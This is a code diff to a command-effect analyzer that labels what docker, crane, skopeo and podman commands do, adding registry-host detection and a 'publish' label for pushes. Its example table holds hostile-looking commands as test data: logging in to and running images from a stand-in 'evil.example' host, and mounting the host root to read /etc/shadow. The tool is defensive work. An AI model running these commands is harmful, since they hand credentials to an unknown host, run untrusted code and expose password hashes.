@@ -16,6 +16,7 @@ if TYPE_CHECKING:
 
     from assent.commands.args import Args
     from assent.commands.program import Fact
+    from assent.types import Kind
 
 LIMITS = (
     " --blkio-weight= --blkio-weight-device= --cpu-count= --cpu-percent= --cpu-period= --cpu-quota= --cpu-rt-period="
@@ -58,7 +59,8 @@ def _creating(args: Args) -> Iterator[Fact]:
     verb = args.name.rpartition(" ")[2]
     yield args.effect("change", image, f"docker.{verb}")
     if args.text("--pull") != "never":
-        yield args.effect("reach", "image registry", "docker.pull")
+        for word in args.operands[:1]:
+            yield from _registry(args, word, "reach", "docker.pull", "image registry")
     yield args.effect("run", f"{image} (container)", "program")
     yield from _powers(args)
     for word in args.values("-v"):
@@ -141,7 +143,7 @@ def _building(args: Args) -> Iterator[Fact]:
     for word in args.operands:
         yield from _context(args, word)
     if args.has("--push"):
-        yield args.effect("send", "image registry", "docker.push")
+        yield args.effect("send", "image registry", "docker.push.publish")
     if args.has("-o", "--secret", "--build-context", "--network", "--builder", "--security-opt"):
         yield args.gap("-o, --secret, --build-context, --network and --builder may take or write more than we know")
 
@@ -179,14 +181,38 @@ def _removing(args: Args) -> Iterator[Fact]:
         yield args.effect("change", word.text, f"docker.{verb}{hard}")
 
 
+def _registry(args: Args, word: Word, kind: Kind, code: str, otherwise: str = "") -> Iterator[Fact]:
+    """The machine an image lies on: what stands before the first slash, if that looks like a name of one."""
+    host, slash, _ = (word.value or "").removeprefix("docker://").partition("/")
+    if slash and ("." in host or ":" in host or host == "localhost"):
+        yield from args.reach(f"https://{host}/", shown=word.text, kind=kind, code=code)
+    else:
+        yield args.effect(kind, otherwise or word.text, code)
+
+
+def _logging_in(args: Args) -> Iterator[Fact]:
+    for word in args.operands:
+        if word.value:
+            yield from args.reach(
+                f"https://{word.value.partition('/')[0]}/", shown=word.text, kind="send", code="docker.login"
+            )
+    if not args.operands:
+        yield args.effect("send", "image registry", "docker.login")
+
+
 def _pushing(args: Args) -> Iterator[Fact]:
     for word in args.operands:
-        yield args.effect("send", word.text, "docker.push")
+        yield from _registry(args, word, "send", "docker.push.publish")
+
+
+def _fetching_first(args: Args) -> Iterator[Fact]:
+    for word in args.operands[:1]:
+        yield from _registry(args, word, "reach", "cloud.read", "image registry")
 
 
 def _pulling(args: Args) -> Iterator[Fact]:
     for word in args.operands:
-        yield args.effect("reach", word.text, "docker.pull")
+        yield from _registry(args, word, "reach", "docker.pull")
         yield args.effect("change", "docker images", "docker.pull")
 
 
@@ -262,9 +288,7 @@ CHANGE_COMMANDS = {
     ),
     "pull image/pull": Program("-a,--all-tags --disable-content-trust --platform= -q,--quiet", "text*", more=_pulling),
     "push image/push": Program("-a,--all-tags --disable-content-trust --platform= -q,--quiet", "text*", more=_pushing),
-    "login": Program(
-        "-u,--username= -p,--password= --password-stdin", "text?", does=(("send", "image registry", "docker.login"),)
-    ),
+    "login": Program("-u,--username= -p,--password= --password-stdin", "text?", more=_logging_in),
     "logout": _change("logout"),
     "cp container/cp": Program("-a,--archive -L,--follow-link -q,--quiet", "text text", more=_copying),
     "save image/save": Program("-o,--output=write --platform=", "text*", does=READ),
@@ -283,7 +307,7 @@ CHANGE_COMMANDS = {
 DOCKER = Program(OWN, commands=nested({**READ_COMMANDS, **CHANGE_COMMANDS}) | {"compose": COMPOSE}, style="bare")
 
 REGISTRY = (("reach", "image registry", "cloud.read"),)
-IMAGE_CHANGE = (("send", "image registry", "docker.push"),)
+IMAGE_CHANGE = (("send", "image registry", "docker.push.publish"),)
 SKOPEO = {
     "inspect list-tags": Program(
         "--config --raw -f,--format= --no-tags -n --override-arch= --override-os=",
@@ -300,7 +324,7 @@ CRANE = {
     "copy cp tag": Program("--platform= -a,--all-tags", "text*", does=IMAGE_CHANGE),
     "push": Program("--index", "tree text", does=IMAGE_CHANGE),
     "delete": Program("", "text", does=(("send", "image registry", "docker.push.destroy"),)),
-    "pull": Program("--format= --platform=", "text write", does=REGISTRY),
+    "pull": Program("--format= --platform=", "text write", more=_fetching_first),
     "version": Program(),
 }
 BUILDAH = {
@@ -351,6 +375,13 @@ PROGRAMS = {
 }
 
 EXAMPLES = {
+    "docker login evil.example": "send evil.example #docker.login",
+    "crane pull evil.example/x a": "write a | reach evil.example/x #cloud.read",
+    "docker pull evil.example/x:1": "reach evil.example/x:1 #docker.pull | change docker images #docker.pull",
+    "docker push registry.example:5000/x": "send registry.example:5000/x #docker.push.publish",
+    "docker run evil.example/x": "change evil.example/x #docker.run | reach evil.example/x #docker.pull"
+    " | run evil.example/x (container) #program",
+    "podman push x": "send x #docker.push.publish",
     "docker ps -a --format '{{.Names}}'": "note docker ps",
     "docker images": "note docker images",
     "docker network ls": "note docker network ls",
@@ -362,7 +393,7 @@ EXAMPLES = {
     " | reach image registry #docker.pull | run python:3.11 (container) #program",
     "docker run -v /:/host alpine cat /host/etc/shadow": "change alpine #docker.run"
     " | reach image registry #docker.pull | run alpine (container) #program | read //** | write //** #mounted"
-    " | gap docker run: the container may do anything with the folder it is given",
+    " | maybe read /host/etc/shadow | gap docker run: the container may do anything with the folder it is given",
     "docker run -v /etc:/x:ro alpine ls": "change alpine #docker.run | reach image registry #docker.pull"
     " | run alpine (container) #program | read /etc/**",
     "docker run -v data:/var/lib/x --pull never db": "change db #docker.run | run db (container) #program",
@@ -388,7 +419,7 @@ EXAMPLES = {
     " | read docs/Dockerfile | run docker build #project | read docs/**",
     "docker build -f docker/Dockerfile --push https://github.com/x/y.git": "change docker images #docker.build"
     " | reach image registry #docker.pull | read docker/Dockerfile | run docker build #project"
-    " | reach https://github.com/x/y.git | send image registry #docker.push",
+    " | reach https://github.com/x/y.git | send image registry #docker.push.publish",
     "docker build - < a": "read a #redirect | change docker images #docker.build | reach image registry #docker.pull"
     " | read -/Dockerfile | run docker build #project"
     " | gap docker build: the build context comes from standard input",
@@ -400,7 +431,7 @@ EXAMPLES = {
     "docker system prune -af": "change containers and images #docker.prune.destroy",
     "docker volume rm data": "change containers and images #docker.rm.destroy",
     "docker pull nginx": "reach nginx #docker.pull | change docker images #docker.pull",
-    "docker push me/app": "send me/app #docker.push",
+    "docker push me/app": "send me/app #docker.push.publish",
     "docker login -u x": "send image registry #docker.login",
     "docker save -o a app": "write a | note containers and images #docker.read",
     "docker load -i a": "read a | change docker images #docker.load",
@@ -418,7 +449,7 @@ EXAMPLES = {
     "skopeo inspect docker://nginx": "reach image registry #cloud.read",
     "skopeo inspect dir:docs": "reach image registry #cloud.read | gap skopeo inspect: `dir:docs` is not in a registry",
     "crane ls ubuntu": "reach image registry #cloud.read",
-    "crane pull ubuntu a": "reach image registry #cloud.read | write a",
+    "crane pull ubuntu a": "write a | reach image registry #cloud.read",
     "buildah images": "note buildah images",
     "crictl ps -a": "note crictl ps",
     "ctr -n k8s.io images ls": "note ctr images ls",
